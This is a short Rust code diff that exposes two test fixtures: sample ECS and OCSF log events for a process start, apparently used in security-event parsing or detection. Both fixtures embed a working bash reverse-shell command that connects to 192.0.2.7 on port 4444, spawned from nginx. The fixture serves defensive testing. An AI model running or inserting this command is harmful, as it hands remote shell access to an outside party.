@@ -20,12 +20,12 @@ fn source(event: &LogEvent) -> [&str; 3] {
 }
 
 /// A reverse shell as Elastic Agent tells it.
-const ECS: &str = r#"{"@timestamp":"2026-11-26T10:00:00.123Z","ecs":{"version":"8.11.0"},"event":{"id":"e-1","category":["process"],"type":["start"]},
+pub(crate) const ECS: &str = r#"{"@timestamp":"2026-11-26T10:00:00.123Z","ecs":{"version":"8.11.0"},"event":{"id":"e-1","category":["process"],"type":["start"]},
 "host":{"name":"web-1","os":{"type":"linux"}},"user":{"name":"www-data"},"process":{"pid":4711,"name":"bash","executable":"/usr/bin/bash",
 "args":["bash","-c","bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"],"hash":{"sha256":"ab"},"parent":{"executable":"/usr/sbin/nginx"}}}"#;
 
 /// The same in OCSF 1.1.
-const OCSF: &str = r#"{"class_uid":1007,"activity_id":1,"category_uid":1,"time":1795687200123,"metadata":{"uid":"o-1","version":"1.1.0","product":{"name":"Sensor"}},
+pub(crate) const OCSF: &str = r#"{"class_uid":1007,"activity_id":1,"category_uid":1,"time":1795687200123,"metadata":{"uid":"o-1","version":"1.1.0","product":{"name":"Sensor"}},
 "device":{"hostname":"web-1","os":{"type":"Linux","type_id":200}},"actor":{"process":{"pid":1,"file":{"path":"/usr/sbin/nginx"}},"user":{"name":"www-data"}},
 "process":{"pid":4711,"name":"bash","cmd_line":"bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1","file":{"path":"/usr/bin/bash",
 "hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"ab"}]}}}"#;
